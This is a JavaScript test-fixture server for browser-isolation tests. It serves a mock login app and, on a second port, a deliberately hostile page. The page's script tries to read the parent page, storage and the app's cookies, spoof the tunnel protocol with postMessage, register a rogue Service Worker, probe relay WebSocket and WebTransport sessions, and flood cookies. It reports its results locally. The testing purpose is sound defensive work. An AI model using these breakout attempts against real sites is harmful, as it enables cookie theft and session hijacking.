// A small web app for the Browse tests, run by node inside a namespace (behind wireguard-go):
// what browsers do with real apps — a login with a CSRF token and an HttpOnly session cookie,
// script-visible cookies, redirects of every kind, JSON at absolute paths, gzip, Range, chunked
// answers, server-sent events — and, on a second port (another target, another origin), a
// hostile page that tries to break out and reports what it got. Every request and every report
// is a JSON line on stdout, which the test reads.
// Usage: node browse-app-server.mjs APP_PORT HOSTILE_PORT
import { randomBytes } from "node:crypto";
import { createServer } from "node:http";
import { gzipSync } from "node:zlib";

const [appPort, hostilePort] = process.argv.slice(2).map(Number);
const log = (entry) => process.stdout.write(`${JSON.stringify(entry)}\n`);
const sessions = new Map();
/** Server-sent event streams waiting for /sse/next. */
const streams = new Set();

function cookiesOf(req) {
  const out = {};
  for (const part of (req.headers.cookie ?? "").split(";")) {
    const eq = part.indexOf("=");
    if (eq > 0) out[part.slice(0, eq).trim()] = part.slice(eq + 1).trim();
  }
  return out;
}

function readBody(req) {
  return new Promise((resolve) => {
    const chunks = [];
    req.on("data", (c) => chunks.push(c));
    req.on("end", () => resolve(Buffer.concat(chunks).toString("utf8")));
  });
}

const html = (res, body, headers = {}) => {
  res.writeHead(200, { "content-type": "text/html; charset=utf-8", ...headers });
  res.end(`<!doctype html><html><head><title>app</title></head><body>${body}</body></html>`);
};
const json = (res, value, status = 200) => {
  res.writeHead(status, { "content-type": "application/json" });
  res.end(JSON.stringify(value));
};

/** Each TCP connection's number (a keep-alive connection carries several requests). */
const connectionIds = new WeakMap();
let connections = 0;
const connectionOf = (req) => {
  if (!connectionIds.has(req.socket)) connectionIds.set(req.socket, ++connections);
  return connectionIds.get(req.socket);
};
/** Requests to /hold waiting (after "hold" on stdin) for "release", and the most at once. */
const holding = [];
let mostHeld = 0;
let releaseAll = true;

async function app(req, res) {
  const url = new URL(req.url, "http://app");
  const cookies = cookiesOf(req);
  const user = sessions.get(cookies.session);
  log({
    server: "app",
    method: req.method,
    path: url.pathname + url.search,
    connection: connectionOf(req),
    cookie: req.headers.cookie ?? "",
    origin: req.headers.origin ?? null,
    referer: req.headers.referer ?? null,
    host: req.headers.host,
    acceptEncoding: req.headers["accept-encoding"] ?? null,
  });
  switch (url.pathname) {
    case "/":
      return html(
        res,
        user
          ? `<h1 id="who">Logged in as ${user}</h1><a id="app" href="/app">app</a>`
          : `<h1 id="who">Not logged in</h1><a id="login" href="/login">log in</a>`,
      );
    case "/login": {
      if (req.method === "GET") {
        const token = randomBytes(12).toString("hex");
        return html(
          res,
          `<form id="form" method="post" action="/login"><input type="hidden" name="csrf" value="${token}"><input id="user" name="user" value="alice"><button id="log-in">Log in</button></form>`,
          { "set-cookie": `csrf=${token}; Path=/; SameSite=Strict` },
        );
      }
      const form = new URLSearchParams(await readBody(req));
      if (!cookies.csrf || form.get("csrf") !== cookies.csrf) {
        res.writeHead(403, { "content-type": "text/plain" });
        return res.end("CSRF token missing or wrong\n");
      }
      const session = randomBytes(16).toString("hex");
      sessions.set(session, form.get("user"));
      res.writeHead(303, {
        location: "/",
        "set-cookie": [
          `session=${session}; Path=/; HttpOnly; SameSite=Lax`,
          "theme=dark; Path=/",
          "old=1; Path=/; Max-Age=0",
        ],
      });
      return res.end();
    }
    case "/api/me":
      return user ? json(res, { user }) : json(res, { error: "not logged in" }, 401);
    case "/api/cookies":
      return json(res, cookies);
    case "/api/echo":
      return json(res, {
        method: req.method,
        body: await readBody(req),
        contentType: req.headers["content-type"] ?? null,
        custom: req.headers["x-custom"] ?? null,
      });
    case "/landed":
      return html(res, `<h1 id="landed">Landed ${url.searchParams.get("from")}</h1>`);
    case "/gzip": {
      const body = gzipSync(Buffer.from("compressed hello ".repeat(200)));
      res.writeHead(200, {
        "content-type": "text/plain",
        "content-encoding": "gzip",
        "content-length": body.length,
      });
      return res.end(body);
    }
    case "/range": {
      const body = Buffer.from(Array.from({ length: 1000 }, (_, i) => 65 + (i % 26)));
      const m = /^bytes=(\d+)-(\d+)$/.exec(req.headers.range ?? "");
      if (!m) {
        res.writeHead(200, { "content-length": body.length, "accept-ranges": "bytes" });
        return res.end(body);
      }
      const [from, to] = [Number(m[1]), Number(m[2])];
      res.writeHead(206, {
        "content-range": `bytes ${from}-${to}/${body.length}`,
        "content-length": to - from + 1,
      });
      return res.end(body.subarray(from, to + 1));
    }
    case "/chunked":
      // No Content-Length: node sends it chunked.
      res.writeHead(200, { "content-type": "text/plain" });
      res.write("first,");
      res.write("second,");
      return res.end("third");
    case "/sse":
      res.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-store" });
      res.write("data: one\n\n");
      streams.add(res);
      req.on("close", () => streams.delete(res));
      return;
    case "/api/connection":
      return json(res, { connection: connectionOf(req) });
    case "/hold": {
      // Answered once the test says "release": how many requests the page's connections carry
      // at once (one at a time each, HTTP/1.1 without pipelining).
      const answer = () => json(res, { connection: connectionOf(req) });
      if (releaseAll) return answer();
      holding.push(answer);
      mostHeld = Math.max(mostHeld, holding.length);
      log({ server: "app", held: holding.length });
      return;
    }
    case "/sse/next":
      for (const stream of streams) stream.write("data: two\n\n");
      return json(res, { streams: streams.size });
  }
  const redirect = /^\/redirect\/(301|302|303|307|308)(\/absolute)?$/.exec(url.pathname);
  if (redirect) {
    const status = Number(redirect[1]);
    const path = status >= 307 ? "/api/echo" : `/landed?from=${status}`;
    res.writeHead(status, {
      location: redirect[2] ? `http://${req.headers.host}${path}` : path,
    });
    return res.end();
  }
  res.writeHead(404, { "content-type": "text/plain" });
  res.end("not found\n");
}

/** The hostile page's script: every attempt and what it got, posted to /report. */
const HOSTILE_SCRIPT = `
(async () => {
  const params = new URLSearchParams(location.search);
  const report = {};
  // An attacker gives up after 10 s (Firefox's WebTransport to a port with nothing on it keeps
  // trying); that is a failure too.
  const patience = () => new Promise((_, reject) => setTimeout(() => reject(new Error("no answer in 10 s")), 10000));
  const attempt = async (name, fn) => {
    try { report[name] = { ok: true, value: String(await Promise.race([fn(), patience()])).slice(0, 200) }; }
    catch (e) { report[name] = { ok: false, error: String(e && e.name ? e.name + ": " + e.message : e).slice(0, 200) }; }
  };
  await attempt("parent.document", () => parent.document.title);
  await attempt("top.location.href", () => top.location.href);
  await attempt("parent.localStorage", () => parent.localStorage.length);
  await attempt("parent.indexedDB", () => parent.indexedDB.databases());
  await attempt("own localStorage keys", () => Object.keys(localStorage).join(",") || "(none)");
  await attempt("own IndexedDB names", async () =>
    (await indexedDB.databases()).map((d) => d.name).join(",") || "(none)");
  // Messages of the page's tunnel worker protocol, to the page: it must ignore them.
  await attempt("postMessage to the page", () => {
    const http = { host: params.get("app-host"), port: Number(params.get("app-port")), method: "GET",
      path: "/hostile-marker", headers: {} };
    for (const message of [{ type: "http", request: http }, { type: "browse-http", request: http },
      { type: "tcp-open", host: http.host, port: http.port }, { type: "disconnect" }])
      parent.postMessage(message, "*");
    return "sent";
  });
  await attempt("a Service Worker for the page's scope", () =>
    navigator.serviceWorker.register(params.get("page") + "evil-sw.js", { scope: params.get("page") }));
  await attempt("the app's cookies (fetch)", async () =>
    (await fetch(params.get("app") + "api/cookies", { credentials: "include" })).text());
  await attempt("the app's page (frame)", () => new Promise((resolve, reject) => {
    const f = document.createElement("iframe");
    f.src = params.get("app");
    f.onload = () => { try { resolve(f.contentDocument.cookie); } catch (e) { reject(e); } };
    document.body.append(f);
  }));
  await attempt("document.cookie", () => document.cookie || "(none)");
  for (const path of ["wiregate.json", "wiregate", "index.html"])
    await attempt("relay " + path, async () => (await fetch(params.get("page") + path)).text());
  await attempt("relay WebSocket session", () => new Promise((resolve, reject) => {
    const ws = new WebSocket(params.get("websocket"), "webtransport_kDraft2");
    ws.binaryType = "arraybuffer";
    let got = "";
    ws.onmessage = (e) => { got += typeof e.data === "string" ? e.data : String.fromCharCode(...new Uint8Array(e.data)); };
    ws.onclose = (e) => reject(new Error("closed " + e.code + " after " + JSON.stringify(got.replace(/[^ -~]/g, "."))));
    ws.onerror = () => {};
  }));
  await attempt("relay WebTransport session", async () => {
    const hash = Uint8Array.from(params.get("hash").match(/../g).map((h) => parseInt(h, 16)));
    const wt = new WebTransport(params.get("relay"), {
      serverCertificateHashes: [{ algorithm: "sha-256", value: hash }] });
    await wt.ready;
    const closed = await wt.closed.catch((e) => e);
    throw new Error("ready, then closed: " + String(closed && (closed.closeCode ?? closed.message ?? closed)));
  });
  await fetch("/report", { method: "POST", body: JSON.stringify(report) });
})();
`;

async function hostile(req, res) {
  const url = new URL(req.url, "http://hostile");
  log({ server: "hostile", method: req.method, path: url.pathname + url.search });
  if (url.pathname === "/report" && req.method === "POST") {
    log({ server: "hostile", report: JSON.parse(await readBody(req)) });
    return json(res, { ok: true });
  }
  if (url.pathname === "/cookie-flood") {
    // More cookies than any jar keeps: 150 per answer, named by the round.
    const round = url.searchParams.get("round") ?? "0";
    res.writeHead(200, {
      "set-cookie": Array.from({ length: 150 }, (_, i) => `f${round}-${i}=v; Path=/`),
    });
    return res.end();
  }
  if (url.pathname === "/hostile.js") {
    res.writeHead(200, { "content-type": "text/javascript" });
    return res.end(HOSTILE_SCRIPT);
  }
  if (url.pathname === "/")
    return html(res, '<h1 id="hostile">Hostile</h1><script src="/hostile.js"></script>');
  res.writeHead(404);
  res.end();
}

let listening = 0;
const servers = [
  [appPort, app],
  [hostilePort, hostile],
].map(([port, handler]) => {
  const server = createServer((req, res) =>
    handler(req, res).catch((e) => {
      log({ error: String(e) });
      res.destroy();
    }),
  );
  // Idle keep-alive connections stay until the test closes them ("close-idle"), not node's 5 s.
  server.keepAliveTimeout = 600_000;
  server.listen(port, "::", () => {
    if (++listening === 2) log({ listening: [appPort, hostilePort] });
  });
  return server;
});

// The test's commands, one a line on stdin.
let commands = "";
process.stdin.on("data", (d) => {
  commands += String(d);
  for (let nl = commands.indexOf("\n"); nl >= 0; nl = commands.indexOf("\n")) {
    const command = commands.slice(0, nl);
    commands = commands.slice(nl + 1);
    if (command === "hold") {
      // From now on /hold waits for "release".
      releaseAll = false;
      mostHeld = 0;
      log({ command });
    } else if (command === "release") {
      // Every held request is answered; later ones at once.
      releaseAll = true;
      for (const answer of holding.splice(0)) answer();
      log({ command, mostHeld });
    } else if (command === "close-idle") {
      // As a server whose keep-alive timeout passed: its idle connections are closed.
      for (const server of servers) server.closeIdleConnections();
      log({ command });
    }
  }
});
